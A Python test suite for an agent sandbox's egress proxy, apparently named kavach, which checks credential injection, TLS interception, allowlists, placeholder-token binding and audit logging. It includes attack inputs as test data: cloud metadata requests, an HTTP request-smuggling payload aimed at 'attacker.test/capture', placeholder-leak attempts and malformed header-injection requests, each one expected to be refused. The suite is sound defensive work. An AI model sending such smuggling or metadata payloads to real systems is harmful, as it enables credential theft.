"""Egress proxy, host side: real sockets, real TLS, real curl and urllib, loopback only.

A local HTTPS upstream with its own CA runs on 127.0.0.1. Because 127.0.0.1 is a private
address, configurations that should reach it list ``allow_private=("127.0.0.0/8",)``, and
``static_hosts`` maps ``api.test`` / ``other.test`` to it without touching /etc/hosts.
"""

from __future__ import annotations

import asyncio
import json
import shutil
import ssl
import urllib.error
import urllib.request
from collections.abc import AsyncIterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from kavach.credentials import CredentialRule, CredentialStore, EgressProxy, ProxyConfig
from kavach.credentials.http import Headers
from test_proxy_support import TestCA, Upstream, make_test_ca

SECRET = "s3cr3t-VALUE-9f8e7d"
OTHER_SECRET = "other-SECRET-1a2b3c"
STATIC = (("api.test", "127.0.0.1"), ("other.test", "127.0.0.1"), ("plain.test", "127.0.0.1"))

needs_curl = pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")


class MemoryAudit:
    """Collects audit appends the way kavach.audit.AuditLog receives them."""

    def __init__(self) -> None:
        self.events: list[tuple[str, str, dict[str, Any]]] = []

    def append(self, event: str, *, sandbox_id: str, agent_id: str | None, payload: dict[str, Any]) -> None:
        self.events.append((event, sandbox_id, payload))

    def decisions(self, decision: str) -> list[dict[str, Any]]:
        return [p for _e, _s, p in self.events if p.get("decision") == decision]


@dataclass
class World:
    tmp: Path
    ca: TestCA
    https: Upstream
    http: Upstream
    proxy: EgressProxy
    port: int
    audit: MemoryAudit
    bundle: Path

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


def _config(ca: TestCA, **overrides: Any) -> ProxyConfig:
    base = ProxyConfig(
        allow=("api.test", "other.test", "plain.test"),
        allow_private=("127.0.0.0/8",),
        credentials=(
            CredentialRule("api.test", "Authorization", "API_TOKEN"),
            CredentialRule("other.test", "X-Api-Key", "OTHER_KEY"),
        ),
        upstream_ca=str(ca.ca_pem),
        static_hosts=STATIC,
    )
    return replace(base, **overrides)


def _store() -> CredentialStore:
    store = CredentialStore()
    store.set("API_TOKEN", SECRET)
    store.set("OTHER_KEY", OTHER_SECRET)
    return store


async def _start(tmp: Path, ca: TestCA, https: Upstream, http: Upstream, **overrides: Any) -> World:
    audit = MemoryAudit()
    proxy = EgressProxy(_config(ca, **overrides), _store(), sandbox_id="kv-test", audit=audit)
    _host, port = await proxy.start_tcp()
    bundle = tmp / f"bundle-{port}.pem"
    bundle.write_bytes(proxy.ca_bundle_pem())
    return World(tmp, ca, https, http, proxy, port, audit, bundle)


@pytest.fixture
async def world(tmp_path: Path) -> AsyncIterator[World]:
    ca = make_test_ca(tmp_path / "upstream")
    https = await Upstream().start(ca.server_context())
    http = await Upstream().start()
    w = await _start(tmp_path, ca, https, http)
    try:
        yield w
    finally:
        await w.proxy.close()
        await https.close()
        await http.close()


async def curl(*args: str) -> tuple[int, str, str]:
    proc = await asyncio.create_subprocess_exec(
        "curl",
        "-sS",
        "--max-time",
        "10",
        "--noproxy",
        "",
        *args,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
        env={"PATH": "/usr/bin:/bin"},
    )
    out, err = await proc.communicate()
    assert proc.returncode is not None
    return proc.returncode, out.decode(), err.decode()


async def raw_exchange(port: int, data: bytes, read_until_close: bool = True) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(data)
    await writer.drain()
    try:
        return await asyncio.wait_for(reader.read(1 << 20) if not read_until_close else reader.read(-1), 10)
    finally:
        writer.close()


# -- HTTPS interception ---------------------------------------------------------------------------


@needs_curl
async def test_curl_https_gets_credential_injected_and_client_header_replaced(world: World) -> None:
    code, out, err = await curl(
        "-x",
        world.url,
        "--cacert",
        str(world.bundle),
        "-H",
        "Authorization: Bearer sandbox-made-this-up",
        f"https://api.test:{world.https.port}/v1/models",
    )
    assert code == 0, err
    assert json.loads(out)["target"] == "/v1/models"
    seen = world.https.seen[-1]
    assert seen.headers.get_all("authorization") == [SECRET]  # replaced, not duplicated
    allowed = world.audit.decisions("allowed")
    request = [p for p in allowed if p["method"] == "GET"][-1]
    assert request["injected"] == [{"header": "Authorization", "name": "API_TOKEN"}]
    assert request["intercepted"] is True
    assert SECRET not in json.dumps(world.audit.events)


@needs_curl
async def test_intercepted_certificate_is_minted_by_the_sandbox_ca(world: World, tmp_path: Path) -> None:
    ca_only = tmp_path / "proxy-ca.pem"
    ca_only.write_bytes(world.proxy.ca_certificate_pem())
    code, _out, err = await curl(
        "-x",
        world.url,
        "--cacert",
        str(ca_only),
        f"https://api.test:{world.https.port}/",
    )
    assert code == 0, err
    # The upstream's own CA alone does not validate what the client sees: it was intercepted.
    code, _out, err = await curl(
        "-x",
        world.url,
        "--cacert",
        str(world.ca.ca_pem),
        f"https://api.test:{world.https.port}/",
    )
    assert code != 0 and "certificate" in err.lower()


async def test_python_urllib_through_proxy(world: World) -> None:
    def fetch() -> tuple[dict[str, Any], str]:
        context = ssl.create_default_context(cafile=str(world.bundle))
        opener = urllib.request.build_opener(
            urllib.request.ProxyHandler({"https": world.url, "http": world.url}),
            urllib.request.HTTPSHandler(context=context),
        )
        with opener.open(f"https://api.test:{world.https.port}/py", timeout=10) as resp:
            https_body = json.loads(resp.read())
        with opener.open(f"http://plain.test:{world.http.port}/plain", timeout=10) as resp:
            plain_body = resp.read().decode()
        return https_body, plain_body

    https_body, plain_body = await asyncio.to_thread(fetch)
    assert https_body["authorization"] == [SECRET]
    assert world.https.seen[-1].target == "/py"
    assert json.loads(plain_body)["target"] == "/plain"
    assert world.http.seen[-1].headers.get("authorization") is None  # no rule for plain.test


@needs_curl
async def test_host_without_credential_rule_is_tunnelled_untouched(world: World) -> None:
    await world.proxy.close()
    w = await _start(world.tmp, world.ca, world.https, world.http, credentials=())
    try:
        # Only the upstream's own CA: the client talks TLS end to end with the real server.
        code, out, err = await curl(
            "-x",
            w.url,
            "--cacert",
            str(w.ca.ca_pem),
            "-H",
            "Authorization: Bearer client-own",
            f"https://other.test:{w.https.port}/t",
        )
        assert code == 0, err
        assert json.loads(out)["authorization"] == ["Bearer client-own"]
        connect = [p for e, _s, p in w.audit.events if e == "proxy.connect"][-1]
        assert connect["mode"] == "tunnel" and connect["decision"] == "allowed"
    finally:
        await w.proxy.close()


@needs_curl
async def test_upstream_certificate_is_verified(world: World) -> None:
    await world.proxy.close()
    w = await _start(world.tmp, world.ca, world.https, world.http, upstream_ca=None)
    try:
        _code, out, _err = await curl(
            "-x",
            w.url,
            "--cacert",
            str(w.bundle),
            "-w",
            "%{http_code}",
            f"https://api.test:{w.https.port}/",
        )
        assert out.endswith("502")
        assert world.https.seen == []
        errors = w.audit.decisions("error")
        assert errors and "certificate" in errors[-1]["reason"]
    finally:
        await w.proxy.close()


async def _tls_through_proxy(world: World, connect_host: str, sni: str, host_header: str) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", world.port)
    writer.write(f"CONNECT {connect_host}:{world.https.port} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    await writer.drain()
    assert (await reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 200")
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE  # we test the proxy's SNI check, not the client's
    await writer.start_tls(context, server_hostname=sni)
    writer.write(f"GET / HTTP/1.1\r\nHost: {host_header}\r\n\r\n".encode())
    await writer.drain()
    data = await asyncio.wait_for(reader.read(-1), 10)
    writer.close()
    return data


async def test_sni_must_match_connect_target(world: World) -> None:
    data = await _tls_through_proxy(world, "api.test", "other.test", "api.test")
    assert b"403" in data.split(b"\r\n")[0]
    assert world.https.seen == []
    tls = [p for e, _s, p in world.audit.events if e == "proxy.tls"]
    assert tls and "SNI" in tls[-1]["reason"]


async def test_host_header_must_match_connect_target(world: World) -> None:
    data = await _tls_through_proxy(world, "api.test", "api.test", f"other.test:{world.https.port}")
    assert data.startswith(b"HTTP/1.1 403")
    assert b"X-Kavach-Reason: host mismatch" in data
    assert world.https.seen == []


# -- refusals --------------------------------------------------------------------------------------


@needs_curl
async def test_non_allowlisted_host_gets_403_with_reason(world: World) -> None:
    code, out, _ = await curl(
        "-x",
        world.url,
        "-i",
        f"http://nothere.test:{world.http.port}/",
    )
    assert out.startswith("HTTP/1.1 403")
    assert "X-Kavach-Reason: not allowlisted" in out
    code, _out, err = await curl("-x", world.url, "--cacert", str(world.bundle), "https://nothere.test/")
    assert code != 0 and "403" in err
    denied = world.audit.decisions("denied")
    assert {d["reason"] for d in denied} == {"not allowlisted"}
    assert world.http.seen == []


async def test_private_and_metadata_addresses_refused_without_allow_private(world: World) -> None:
    await world.proxy.close()
    w = await _start(
        world.tmp,
        world.ca,
        world.https,
        world.http,
        allow=("api.test", "127.0.0.1", "169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal"),
        allow_private=(),
    )
    try:
        cases = {
            f"GET http://127.0.0.1:{w.http.port}/ HTTP/1.1\r\nHost: x\r\n\r\n": "private address",
            "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: x\r\n\r\n": "metadata address",
            "GET http://[fd00:ec2::254]/latest/ HTTP/1.1\r\nHost: x\r\n\r\n": "metadata address",
            "GET http://metadata.google.internal/ HTTP/1.1\r\nHost: x\r\n\r\n": "metadata host",
            # A permitted *name* that resolves to a loopback address is refused too.
            f"GET http://api.test:{w.http.port}/ HTTP/1.1\r\nHost: x\r\n\r\n": "private address",
            f"CONNECT api.test:{w.https.port} HTTP/1.1\r\nHost: x\r\n\r\n": "private address",
            "CONNECT 169.254.169.254:443 HTTP/1.1\r\nHost: x\r\n\r\n": "metadata address",
        }
        for request, reason in cases.items():
            data = await raw_exchange(w.port, request.encode())
            assert data.startswith(b"HTTP/1.1 403"), request
            assert f"X-Kavach-Reason: {reason}".encode() in data, (request, data[:200])
        assert w.http.seen == [] and w.https.seen == []
    finally:
        await w.proxy.close()


async def test_ip_literal_needs_explicit_allow_entry(world: World) -> None:
    # 127.0.0.0/8 is allow_private here, but the literal itself is not on the allowlist.
    data = await raw_exchange(world.port, f"GET http://127.0.0.1:{world.http.port}/ HTTP/1.1\r\n\r\n".encode())
    assert b"X-Kavach-Reason: not allowlisted" in data


async def test_deny_wins_over_wildcard_allow(world: World) -> None:
    await world.proxy.close()
    w = await _start(world.tmp, world.ca, world.https, world.http, allow=("*.test",), deny=("other.test",))
    try:
        ok = await raw_exchange(
            w.port, f"GET http://plain.test:{w.http.port}/ HTTP/1.1\r\nConnection: close\r\n\r\n".encode()
        )
        assert ok.startswith(b"HTTP/1.1 200")
        denied = await raw_exchange(w.port, f"GET http://other.test:{w.http.port}/ HTTP/1.1\r\n\r\n".encode())
        assert b"X-Kavach-Reason: denylisted" in denied
    finally:
        await w.proxy.close()


async def test_empty_allowlist_denies_everything(world: World) -> None:
    await world.proxy.close()
    w = await _start(world.tmp, world.ca, world.https, world.http, allow=(), credentials=())
    try:
        data = await raw_exchange(w.port, f"GET http://plain.test:{w.http.port}/ HTTP/1.1\r\n\r\n".encode())
        assert b"X-Kavach-Reason: allowlist empty" in data
    finally:
        await w.proxy.close()


@needs_curl
async def test_method_restriction_applies_inside_https(world: World) -> None:
    await world.proxy.close()
    w = await _start(world.tmp, world.ca, world.https, world.http, allow=("GET,HEAD other.test",), credentials=())
    try:
        code, out, err = await curl("-x", w.url, "--cacert", str(w.bundle), f"https://other.test:{w.https.port}/r")
        assert code == 0, err
        _c, out, _e = await curl(
            "-x",
            w.url,
            "--cacert",
            str(w.bundle),
            "-X",
            "POST",
            "-d",
            "x=1",
            "-i",
            f"https://other.test:{w.https.port}/w",
        )
        assert "HTTP/1.1 403" in out and "X-Kavach-Reason: method not allowed" in out
        assert [s.method for s in w.https.seen] == ["GET"]
    finally:
        await w.proxy.close()


# -- placeholders ----------------------------------------------------------------------------------


@needs_curl
async def test_placeholder_replaced_for_bound_host_only(world: World) -> None:
    placeholder = world.proxy.placeholders()["API_TOKEN"]
    assert placeholder.startswith("KAVACH_PLACEHOLDER_") and SECRET not in placeholder
    # Bound host: the placeholder becomes the value.
    code, _out, err = await curl(
        "-x",
        world.url,
        "--cacert",
        str(world.bundle),
        "-H",
        f"X-Token: {placeholder}",
        f"https://api.test:{world.https.port}/bound",
    )
    assert code == 0, err
    assert world.https.seen[-1].headers.get("x-token") == SECRET
    # Another host (intercepted because it has its own rule): refused, audited, nothing sent.
    before = len(world.https.seen)
    _c, out, _e = await curl(
        "-x",
        world.url,
        "--cacert",
        str(world.bundle),
        "-i",
        "-H",
        f"X-Leak: {placeholder}",
        f"https://other.test:{world.https.port}/leak",
    )
    assert "X-Kavach-Reason: placeholder sent to a host it is not bound to" in out
    # Plain HTTP to a host without rules: refused the same way.
    _c, out, _e = await curl(
        "-x", world.url, "-i", "-H", f"Cookie: t={placeholder}", f"http://plain.test:{world.http.port}/"
    )
    assert out.startswith("HTTP/1.1 403")
    assert len(world.https.seen) == before and world.http.seen == []
    denied = [p for p in world.audit.decisions("denied") if "placeholder" in p["reason"]]
    assert len(denied) == 2
    assert {d["host"] for d in denied} == {"other.test", "plain.test"}
    assert {d["placeholder_of"] for d in denied} == {"API_TOKEN"}
    assert SECRET not in json.dumps(world.audit.events) and placeholder not in json.dumps(world.audit.events)


# -- plain HTTP ------------------------------------------------------------------------------------


async def test_keep_alive_every_request_inspected_with_chunked_body(world: World) -> None:
    port = world.http.port
    reader, writer = await asyncio.open_connection("127.0.0.1", world.port)
    try:
        writer.write(
            f"GET http://api.test:{port}/one HTTP/1.1\r\nHost: api.test\r\nAuthorization: mine\r\n\r\n".encode()
        )
        writer.write(
            f"POST http://api.test:{port}/two HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n"
            "5;ext=1\r\nhello\r\n6\r\n world\r\n0\r\n\r\n".encode()
        )
        writer.write(f"GET http://api.test:{port}/chunked HTTP/1.1\r\nHost: api.test\r\n\r\n".encode())
        writer.write(f"GET http://evil.test:{port}/three HTTP/1.1\r\nHost: evil.test\r\n\r\n".encode())
        await writer.drain()
        data = await asyncio.wait_for(reader.read(-1), 10)
    finally:
        writer.close()
    responses = data.split(b"HTTP/1.1 ")[1:]
    assert [r[:3] for r in responses] == [b"200", b"200", b"200", b"403"]
    assert b"hello chunked world" not in data  # chunked framing is preserved, not flattened
    assert b"6\r\nhello \r\n8\r\nchunked \r\n5\r\nworld\r\n0\r\n\r\n" in data
    seen = world.http.seen
    assert [s.target for s in seen] == ["/one", "/two", "/chunked"]
    assert {s.connection for s in seen} == {seen[0].connection}  # one upstream connection reused
    assert seen[1].body == b"hello world"
    assert all(s.headers.get_all("authorization") == [SECRET] for s in seen)
    assert all(s.headers.get("host") == f"api.test:{port}" for s in seen)


async def test_connection_header_cannot_drop_the_length_of_a_relayed_body(world: World) -> None:
    # A body that is itself a request: if the length were dropped on the way (the client
    # named Content-Length in Connection), upstream would read it as a second request to a
    # host of the sandbox's choosing, and the next request, credential included, as its body.
    port = world.http.port
    smuggled = b"POST /capture HTTP/1.1\r\nHost: attacker.test\r\nContent-Length: 60\r\n\r\n"
    data = await raw_exchange(
        world.port,
        f"POST http://api.test:{port}/first HTTP/1.1\r\nConnection: content-length, host\r\n"
        f"Content-Length: {len(smuggled)}\r\n\r\n".encode()
        + smuggled
        + f"POST http://api.test:{port}/second HTTP/1.1\r\nContent-Length: 5, 5\r\n\r\nhello".encode()
        + f"POST http://api.test:{port}/third HTTP/1.1\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".encode(),
    )
    assert [r[:3] for r in data.split(b"HTTP/1.1 ")[1:]] == [b"200", b"200", b"200"]
    seen = world.http.seen
    assert [(s.method, s.target) for s in seen] == [("POST", "/first"), ("POST", "/second"), ("POST", "/third")]
    assert seen[0].body == smuggled
    # The proxy sends the framing it relayed, in its own spelling.
    assert [s.headers.get_all("content-length") for s in seen] == [[str(len(smuggled))], ["5"], ["0"]]
    assert all(s.headers.get("host") == f"api.test:{port}" for s in seen)


def test_connection_cannot_make_length_or_host_hop_by_hop() -> None:
    headers = Headers(
        [("Connection", "content-length, Host, x-a"), ("Content-Length", "5"), ("Host", "h"), ("X-A", "1")]
    )
    assert headers.without_hop_by_hop().items == [("Content-Length", "5"), ("Host", "h")]


@needs_curl
async def test_curl_plain_http_any_port_with_post(world: World) -> None:
    code, out, err = await curl("-x", world.url, "-d", "a=1&b=2", f"http://other.test:{world.http.port}/form")
    assert code == 0, err
    assert json.loads(out)["body_len"] == 7
    assert world.http.seen[-1].headers.get_all("x-api-key") == [OTHER_SECRET]
    assert world.http.seen[-1].headers.get("proxy-connection") is None


# -- malformed input -------------------------------------------------------------------------------

MALFORMED = {
    "bad request line": b"GET http://api.test/ HTTP/1.1 extra\r\n\r\n",
    "bad version": b"GET http://api.test/ HTTP/2.0\r\n\r\n",
    "oversized head": b"GET http://api.test/ HTTP/1.1\r\nX-Big: " + b"a" * (70 * 1024) + b"\r\n\r\n",
    "bare LF in header": b"GET http://api.test/ HTTP/1.1\r\nX-A: 1\nInjected: yes\r\n\r\n",
    "bare CR in header": b"GET http://api.test/ HTTP/1.1\r\nX-A: 1\rInjected: yes\r\n\r\n",
    "obs-fold": b"GET http://api.test/ HTTP/1.1\r\nX-A: 1\r\n  folded\r\n\r\n",
    "space before colon": b"GET http://api.test/ HTTP/1.1\r\nX-A : 1\r\n\r\n",
    "bad chunk size": b"POST http://api.test/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n",
    "chunk too long": b"POST http://api.test/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nhello\r\n0\r\n\r\n",
    "CL and TE": b"POST http://api.test/ HTTP/1.1\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "conflicting CL": b"POST http://api.test/ HTTP/1.1\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
    "origin-form": b"GET / HTTP/1.1\r\nHost: api.test\r\n\r\n",
    "userinfo": b"GET http://user@api.test/ HTTP/1.1\r\n\r\n",
    # Served as DELETE by servers that upper-case the method, past a rule denying DELETE.
    "lower-case method": b"delete http://api.test/ HTTP/1.1\r\n\r\n",
    # str.isdigit() accepts superscripts that int() refuses: a 400, not a crashed connection.
    "non-ASCII digit in Content-Length": b"POST http://api.test/ HTTP/1.1\r\nContent-Length: \xb2\r\n\r\nhe",
}


@pytest.mark.parametrize("name", sorted(MALFORMED))
async def test_malformed_request_gets_400_and_proxy_keeps_serving(world: World, name: str) -> None:
    request = MALFORMED[name].replace(b"api.test/", f"api.test:{world.http.port}/".encode())
    data = await raw_exchange(world.port, request)
    status = int(data.split(b" ", 2)[1])
    assert status in (400, 431), data[:200]
    assert b"Connection: close" in data
    # The proxy still serves a well-formed request on a new connection.
    ok = await raw_exchange(
        world.port, f"GET http://api.test:{world.http.port}/ok HTTP/1.1\r\nConnection: close\r\n\r\n".encode()
    )
    assert ok.startswith(b"HTTP/1.1 200")
    assert [s.target for s in world.http.seen][-1] == "/ok"
    assert "/ok" in [s.target for s in world.http.seen] and len(world.http.seen) <= 2
    assert world.audit.decisions("malformed")


async def test_secret_never_in_repr(world: World) -> None:
    assert SECRET not in repr(world.proxy)
    assert SECRET not in repr(_store())
    assert SECRET not in repr(world.proxy.config)


@needs_curl
async def test_decisions_land_in_the_real_audit_chain_without_values(world: World, tmp_path: Path) -> None:
    from kavach.audit import open_audit_log, verify

    await world.proxy.close()
    key = b"k" * 32
    log_path = tmp_path / "audit.jsonl"
    audit = open_audit_log(log_path, key)
    proxy = EgressProxy(_config(world.ca), _store(), sandbox_id="kv-audit", audit=audit)
    _h, port = await proxy.start_tcp()
    bundle = tmp_path / "b.pem"
    bundle.write_bytes(proxy.ca_bundle_pem())
    placeholder = proxy.placeholders()["API_TOKEN"]
    try:
        url = f"http://127.0.0.1:{port}"
        code, _o, err = await curl("-x", url, "--cacert", str(bundle), f"https://api.test:{world.https.port}/a")
        assert code == 0, err
        await curl("-x", url, "-H", f"X-Leak: {placeholder}", f"http://plain.test:{world.http.port}/")
        await curl("-x", url, f"http://nothere.test:{world.http.port}/")
    finally:
        await proxy.close()
        audit.close()
    assert verify(log_path, key).ok
    text = log_path.read_text()
    assert SECRET not in text and placeholder not in text
    events = [json.loads(line) for line in text.splitlines()]
    reasons = [e["payload"].get("reason") for e in events if e["event"] == "proxy.request"]
    assert "placeholder sent to a host it is not bound to" in reasons and "not allowlisted" in reasons
    injected = [e["payload"]["injected"] for e in events if e["payload"].get("injected")]
    assert injected == [[{"header": "Authorization", "name": "API_TOKEN"}]]
    assert all(e["sandbox_id"] == "kv-audit" for e in events if e["event"].startswith("proxy."))


async def test_audit_failure_refuses_the_request(world: World) -> None:
    from kavach.errors import AuditError

    class BrokenAudit:
        def append(self, event: str, **_: object) -> None:
            raise AuditError("disk full")

    await world.proxy.close()
    proxy = EgressProxy(_config(world.ca), _store(), sandbox_id="kv", audit=BrokenAudit())
    _h, port = await proxy.start_tcp()
    try:
        data = await raw_exchange(port, f"GET http://plain.test:{world.http.port}/ HTTP/1.1\r\n\r\n".encode())
        assert data.startswith(b"HTTP/1.1 503") and b"audit unavailable" in data
        data = await raw_exchange(port, f"CONNECT other.test:{world.https.port} HTTP/1.1\r\n\r\n".encode())
        assert data.startswith(b"HTTP/1.1 503")
        assert world.http.seen == [] and world.https.seen == []
    finally:
        await proxy.close()


async def test_stalled_body_and_idle_tunnel_are_closed(world: World) -> None:
    await world.proxy.close()
    w = await _start(world.tmp, world.ca, world.https, world.http, credentials=(), idle_timeout=0.3)
    try:
        stalled = f"POST http://plain.test:{w.http.port}/ HTTP/1.1\r\nContent-Length: 10\r\n\r\nabc".encode()
        data = await raw_exchange(w.port, stalled)
        assert data.startswith(b"HTTP/1.1 400") and b"idle timeout" in data
        reader, writer = await asyncio.open_connection("127.0.0.1", w.port)
        writer.write(f"CONNECT other.test:{w.https.port} HTTP/1.1\r\n\r\n".encode())
        assert (await reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 200")
        assert await asyncio.wait_for(reader.read(-1), 10) == b""  # closed by the proxy, not by us
        writer.close()
        assert w.http.seen == []
    finally:
        await w.proxy.close()
